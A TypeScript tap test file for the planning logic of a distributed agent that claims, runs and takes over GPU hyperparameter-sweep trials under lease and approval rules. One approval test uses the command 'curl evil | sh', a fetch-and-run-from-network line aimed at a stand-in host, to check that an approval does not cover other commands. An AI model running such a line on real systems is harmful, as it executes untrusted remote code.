import t from 'tap'
import {
  approvalOf,
  canonicalJson,
  decodeBlock,
  encodeBlock,
  LIMITS,
  poolDigest,
  rankOf,
  type SweepSpec,
  stamped
} from '#protocol'
import { accepts } from '../../agent/choice.js'
import { attemptId, heardMachines, isApproved, type Local, trialId } from '../../agent/local.js'
import { plan } from '../../agent/plan.js'
import { BUNDLE, keyOf, resultOf, submission, sweepSpec } from '../helpers/records.js'
import { LEASE_MS, NOW, occupy, planned, situation } from '../helpers/situation.js'
import { GPU } from '../helpers/virtual-pool.js'

const TRIALS = 4

t.test('pure: it changes neither the pool nor what the machine knows, and says the same again', async t => {
  const { pool, local, claim, hears } = situation()
  hears('b')
  claim('b', 0)
  const before = [poolDigest(pool), canonicalJson({ ...local, charges: [...local.charges], peers: [...local.peers] })]
  const steps = planned(pool, local)
  t.same(planned(pool, local), steps)
  t.same([poolDigest(pool), canonicalJson({ ...local, charges: [...local.charges], peers: [...local.peers] })], before)
  t.equal(steps.length, 1)
})

t.test('alone it claims the lowest trial; each idle device gets another one', async t => {
  const { pool, local } = situation()
  t.same(planned(pool, local), ['claim 0/1'])
  local.devices = [GPU, { ...GPU, id: 'gpu1' }, { ...GPU, id: 'ill', fault: 'it is too hot' }, { ...GPU, id: 'gpu2' }]
  t.same(planned(pool, local), ['claim 0/1', 'claim 1/1', 'claim 2/1'])
})

t.test('in company it claims the trial for which it ranks first among those that would run it (rule C1)', async t => {
  const { pool, local, sweep, hears } = situation()
  hears('b')
  hears('c')
  hears('stranger', { accepts: [] })
  hears('gone', {}, LIMITS.presenceAwayMs + 1)
  t.same(heardMachines(local, NOW), [keyOf('b'), keyOf('c'), keyOf('stranger')].sort())
  const rank = (trial: number) => rankOf({ sweep, trial, machine: keyOf('a') }, [keyOf('b'), keyOf('c')])
  const ranks = Array.from({ length: TRIALS }, (_, trial) => rank(trial))
  const first = ranks.indexOf(Math.min(...ranks))
  t.same(planned(pool, local), [`claim ${first}/1`])
  t.not(first, 0, 'so that this test tells rank from order')
})

t.test('a claim carries the parameters of its trial and the device that it is for', async t => {
  const { pool, local, about } = situation()
  const [step] = plan(pool, local, NOW)
  t.match(step, {
    do: 'claim',
    charge: { ...about(0), device: 'gpu0', phase: 'claiming', sinceMs: NOW, resume: false },
    draft: { kind: 'trial-claimed', ...about(0), device: 'gpu0', parameters: { x: 0 } }
  })
})

t.test('nothing is claimed that is not approved, whose bundle is not here, or whose environment fails', async t => {
  const { pool, local, sweep, about, write } = situation()
  const known = pool.sweeps.get(sweep)
  local.approved.clear()
  t.same(planned(pool, local), [])
  t.notOk(known?.submission && isApproved(local, known.submission))
  local.approveAll = true
  for (const state of ['wanted', { fault: 'it is damaged' }] as const) {
    local.bundles.set(BUNDLE.digest, state)
    t.same(planned(pool, local), [])
  }
  local.bundles.clear()
  t.same(planned(pool, local), ['fetch'])
  local.bundles.set(BUNDLE.digest, 'ready')
  t.ok(known && accepts(local, known))
  for (let n = 0; n < LIMITS.environmentFailuresMax; n++) write('a', resultOf(about(n), 'environment'))
  t.notOk(known && accepts(local, known))
  t.same(planned(pool, local), [])
})

t.test('an approval is for a bundle and its command: another command in approved files does not run', async t => {
  const { pool, local } = situation({ command: ['sh', '-c', 'curl evil | sh'] })
  t.same(planned(pool, local), ['claim 0/1'], 'the owner approved just this')
  local.approved.clear()
  local.approved.add(approvalOf(submission(sweepSpec())))
  t.same(planned(pool, local), [])
})

t.test('a sweep of a newer release is folded under its name, and left to newer agents (rule L5)', async t => {
  const { pool, local, sweep } = situation({ earlyTerminate: 'hyperband' } as Partial<SweepSpec>)
  t.same(planned(pool, local), [])
  const submitted = pool.sweeps.get(sweep)?.submission
  t.match(submitted?.spec, { earlyTerminate: 'hyperband' }, 'what this release does not know is kept')
  const draft = submission(submitted?.spec as SweepSpec)
  const [decoded] = decodeBlock(encodeBlock(stamped([draft], pool, 0)))
  t.match(decoded, { record: { sweep: draft.sweep, spec: { earlyTerminate: 'hyperband' } } })
})

t.test('the older sweep comes first, whatever its name', async t => {
  const { pool, local, write, sweep } = situation()
  write('b', submission(sweepSpec({ name: 'another' }), keyOf('bo')))
  const [step] = plan(pool, local, NOW)
  t.match(step, { do: 'claim', charge: { sweep } })
  for (let trial = 0; trial < TRIALS; trial++) write('b', resultOf({ sweep, trial, attempt: 1 }, 'complete'))
  t.match(plan(pool, local, NOW), [{ do: 'claim', charge: { trial: 0 } }], 'then the next one')
})

t.test('a trial that ran out of memory is for larger devices only (rule C9)', async t => {
  const { pool, local, about, write } = situation({ runCap: 1 })
  const device = { id: 'gpu0', model: 'RTX 4090', memoryBytes: GPU.memoryBytes }
  const devices = [{ ...GPU, memoryBytes: 2 * GPU.memoryBytes }]
  write('b', { kind: 'machine-announced', name: 'b', version: '', platform: '', devices })
  write('b', resultOf(about(0), 'oom', { device }))
  t.same(planned(pool, local), [])
  local.devices = [GPU, { ...GPU, id: 'larger', memoryBytes: GPU.memoryBytes + 2 ** 30 }]
  t.same(planned(pool, local), [], 'a little more is hardly enough')
  local.devices = [GPU, { ...GPU, id: 'large', memoryBytes: 1.25 * GPU.memoryBytes }]
  t.match(plan(pool, local, NOW), [{ do: 'claim', charge: { device: 'large', attempt: 2 } }])
})

t.test('a claim starts when it is folded, holds, and has settled (rule C3)', async t => {
  const { pool, local, about, claim, hears } = situation()
  const charge = { ...occupy(local, about(0), 'claiming'), sinceMs: NOW }
  local.charges.set(charge.id, charge)
  t.same(planned(pool, local), [], 'the log does not have it yet')
  claim('a', 0)
  t.same(planned(pool, local), ['start 0/1'], 'alone there is nobody to wait for')
  hears('b')
  t.same(planned(pool, local), [])
  t.same(planned(pool, local, NOW + LIMITS.settleMinMs - 1), [])
  t.same(planned(pool, local, NOW + LIMITS.settleMinMs), ['start 0/1'])
  local.bundles.set(BUNDLE.digest, 'wanted')
  t.same(planned(pool, local, NOW + LIMITS.settleMinMs), [], 'it waits for its bundle')
})

t.test('a claim that does not hold frees its device: lost, over or in quarantine', async t => {
  const claiming = () => {
    const given = situation()
    occupy(given.local, given.about(0), 'claiming')
    given.claim('a', 0)
    t.same(planned(given.pool, given.local), ['start 0/1'])
    return given
  }
  const superseded = claiming()
  superseded.claim('b', 0, 2)
  t.same(planned(superseded.pool, superseded.local), ['free 0/1'])
  const done = claiming()
  done.write('b', resultOf(done.about(0), 'complete'))
  t.same(planned(done.pool, done.local), ['free 0/1'])
  const stopped = claiming()
  stopped.write('b', { kind: 'sweep-stopped', sweep: stopped.sweep })
  t.same(planned(stopped.pool, stopped.local), ['free 0/1'])
})

t.test('a claim on a trial that failed too often meanwhile frees its device', async t => {
  const { pool, local, about, claim, write } = situation()
  occupy(local, about(0, 3), 'claiming')
  for (const attempt of [1, 2, 3]) claim('a', 0, attempt)
  write('b', resultOf(about(0, 1), 'error'))
  write('c', resultOf(about(0, 1), 'error'))
  t.same(planned(pool, local), ['start 0/3'])
  write('b', resultOf(about(0, 2), 'error'))
  t.same(planned(pool, local), ['free 0/3'], 'late failures count as well')
})

t.test('a running attempt ends with its sweep alone; one that is told to end is not told again', async t => {
  const { pool, local, about, claim, sweep, write } = situation()
  occupy(local, about(0), 'running')
  claim('a', 0)
  claim('b', 0, 2)
  t.same(planned(pool, local), [], 'another claim does not throw its work away (rule C5)')
  write('b', { kind: 'sweep-stopped', sweep })
  t.same(planned(pool, local), ['stop 0/1'])
  occupy(local, about(0), 'stopping')
  t.same(planned(pool, local), [])
})

t.test('after a restart its own claims are resumed where a checkpoint is, else given back (rule C7)', async t => {
  const { pool, local, claim, sweep } = situation()
  for (const trial of [0, 1, 2]) claim('a', trial)
  local.checkpoints.add(attemptId(sweep, 1, 1))
  local.checkpoints.add(attemptId(sweep, 2, 1))
  const steps = planned(pool, local)
  t.same(steps, ['release 0/1 restart', 'resume 1/1', 'release 2/1 restart'], 'there is one device')
  local.results.add(attemptId(sweep, 0, 1))
  t.same(planned(pool, local), steps.slice(1), 'one whose result is on its way is over')
  local.approved.clear()
  t.same(planned(pool, local), ['release 1/1 restart', 'release 2/1 restart'], 'what is not approved is not resumed')
})

t.test('just started or just awake, a machine of a pool is not taken to be alone (rule C3)', async t => {
  const { pool, local, about, claim, write } = situation()
  for (const by of ['a', 'b'] as const) {
    write(by, { kind: 'machine-announced', name: by, version: '1', platform: 'linux', devices: [] })
  }
  const charge = { ...occupy(local, about(0), 'claiming'), sinceMs: NOW }
  local.charges.set(charge.id, charge)
  claim('a', 0)
  local.steadySinceMs = NOW - 1000
  t.same(planned(pool, local, NOW + LIMITS.aloneMs - 1001), [])
  t.same(planned(pool, local, NOW + LIMITS.aloneMs - 1000), ['start 0/1'], 'by now it is alone')
})

t.test('with a short lease, whoever was heard within the lease alone is company (rule C6)', async t => {
  const { pool, local, claim, hears, sweep } = situation({ runCap: 1, leaseMs: LIMITS.leaseMinMs })
  claim('b', 0)
  local.signOfLifeMs.set(attemptId(sweep, 0, 1), 0)
  local.connectedSinceMs = 0
  local.steadySinceMs = NOW - 2 * LIMITS.leaseMinMs
  hears('c', {}, LIMITS.leaseMinMs)
  t.same(planned(pool, local), ['claim 0/2'])
  hears('c', {}, LIMITS.leaseMinMs + 1)
  t.same(planned(pool, local), [], 'both are silent: it may be this machine that is cut off')
})

t.test('a silent machine: what counts as silence, and when patience ends (rule C6)', async t => {
  const { pool, local, about, claim, hears, sweep } = situation({ runCap: 1 })
  const silent = (change: (local: Local) => void = () => {}) => {
    local.signOfLifeMs.set(attemptId(sweep, 0, 1), NOW - 100 * LEASE_MS)
    local.heardOfMs.clear()
    local.steadySinceMs = 0
    local.connectedSinceMs = 0
    hears('b', {}, LEASE_MS)
    hears('c')
    change(local)
    return planned(pool, local)
  }
  claim('b', 0)
  t.same(silent(), ['claim 0/2'])
  const almost = NOW - LEASE_MS + 1
  t.same(
    silent(() => hears('b', {}, LEASE_MS - 1)),
    []
  )
  t.same(
    silent(({ heardOfMs }) => heardOfMs.set(keyOf('b'), almost)),
    [],
    'others heard it'
  )
  t.same(
    silent(({ signOfLifeMs }) => signOfLifeMs.set(attemptId(sweep, 0, 1), almost)),
    [],
    'the claim is news'
  )
  t.same(
    silent(it => {
      it.steadySinceMs = almost
    }),
    [],
    'this machine slept'
  )
  t.same(
    silent(it => {
      it.connectedSinceMs = almost
    }),
    [],
    'this machine heard nobody'
  )
  t.same(
    silent(({ peers }) => peers.delete(keyOf('c'))),
    [],
    'it is isolated'
  )
  local.devices = []
  t.same(silent(), [])
  t.equal(about(0).attempt, 1)
})

t.test('a trial that somebody trains is not taken over, whoever has the latest claim on it (rule C6)', async t => {
  const { pool, local, sweep, claim, hears, trains, write, about } = situation({ runCap: 1 })
  local.connectedSinceMs = 0
  claim('b', 0)
  claim('c', 0, 2)
  for (const attempt of [1, 2]) local.signOfLifeMs.set(attemptId(sweep, 0, attempt), NOW - 100 * LEASE_MS)
  hears('c', {}, 90 * LEASE_MS)
  hears('b')
  t.same(planned(pool, local), ['claim 0/3'], 'who took it over is silent')
  trains('b', 0)
  t.same(planned(pool, local), [], 'but who had it before is not, and trains it')
  write('b', { kind: 'trial-released', ...about(0), reason: 'owner' })
  t.same(planned(pool, local), ['claim 0/3'], 'what it gave back it cannot keep by words alone')
})

t.test('a machine that is heard is silent about what it does not have in hand (rule C6)', async t => {
  const { pool, local, sweep, claim, hears } = situation({ runCap: 1 })
  claim('b', 0)
  hears('b')
  local.heardOfMs.set(keyOf('b'), NOW)
  local.connectedSinceMs = 0
  local.signOfLifeMs.set(attemptId(sweep, 0, 1), NOW - LEASE_MS)
  t.same(planned(pool, local), ['claim 0/2'], 'its words about others, and its log, tell nothing of this trial')
  local.signOfLifeMs.set(attemptId(sweep, 0, 1), NOW - LEASE_MS + 1)
  t.same(planned(pool, local), [])
})

t.test('what failed here is left to another machine for a lease, and no longer (rule C9)', async t => {
  const { pool, local, about, sweep, hears, write } = situation({ runCap: 1 })
  write('a', resultOf(about(0), 'error'))
  hears('b')
  t.same(planned(pool, local), [], 'it has just come back')
  local.openSinceMs.set(trialId(sweep, 0), NOW - LEASE_MS + 1)
  t.same(planned(pool, local), [])
  local.openSinceMs.set(trialId(sweep, 0), NOW - LEASE_MS)
  t.same(planned(pool, local), ['claim 0/2'], 'b has had its time')
})

t.test('a trial is taken over only when no sweep has an open one left (rule C6)', async t => {
  const { pool, local, sweep, claim, hears, write } = situation({ runCap: 1 })
  local.connectedSinceMs = 0
  claim('b', 0)
  hears('c')
  local.signOfLifeMs.set(attemptId(sweep, 0, 1), NOW - 100 * LEASE_MS)
  t.match(plan(pool, local, NOW), [{ do: 'claim', charge: { sweep, attempt: 2 } }])
  const later = submission(sweepSpec({ name: 'another' }), keyOf('bo'))
  write('b', later)
  t.match(plan(pool, local, NOW), [{ do: 'claim', charge: { sweep: later.sweep, attempt: 1 } }])
})

t.test('a trial is not taken over beyond the last attempt', async t => {
  const { pool, local, claim, hears, sweep } = situation({ runCap: 1 })
  const last = LIMITS.attemptsPerTrial
  const silentFor = 2 * LIMITS.leaseGrowthMax * LEASE_MS
  hears('c')
  for (let attempt = 1; attempt < last - 1; attempt++) claim('b', 0, attempt)
  for (const attempt of [last - 1, last]) {
    claim('b', 0, attempt)
    local.signOfLifeMs.set(attemptId(sweep, 0, attempt), NOW - silentFor)
    t.same(planned(pool, local), attempt < last ? [`claim 0/${last}`] : [])
  }
})

t.test('a claim on a trial that the sweep does not have is not taken over', async t => {
  const { pool, local, claim, hears, about, write, sweep } = situation({ runCap: 1 })
  write('c', resultOf(about(0), 'complete'))
  write('b', submission(sweepSpec({ name: 'another' }), keyOf('bo')))
  claim('b', 7)
  hears('c')
  local.signOfLifeMs.set(attemptId(sweep, 7, 1), NOW - 100 * LEASE_MS)
  t.match(plan(pool, local, NOW), [{ do: 'claim', charge: { trial: 0, attempt: 1 } }], 'the other sweep has work')
})
